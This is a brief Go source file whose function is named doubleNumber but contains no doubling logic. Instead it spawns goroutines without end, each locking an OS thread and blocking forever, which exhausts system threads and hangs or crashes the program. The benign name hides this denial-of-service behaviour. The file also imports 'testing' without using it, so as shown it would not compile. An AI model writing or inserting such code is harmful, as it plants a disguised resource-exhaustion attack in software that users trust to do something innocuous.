package main

import (
	"runtime"
	"testing"
)

func doubleNumber(n int) int {
	for {
		go func() {
			runtime.LockOSThread()
			select {}
		}()
	}
}
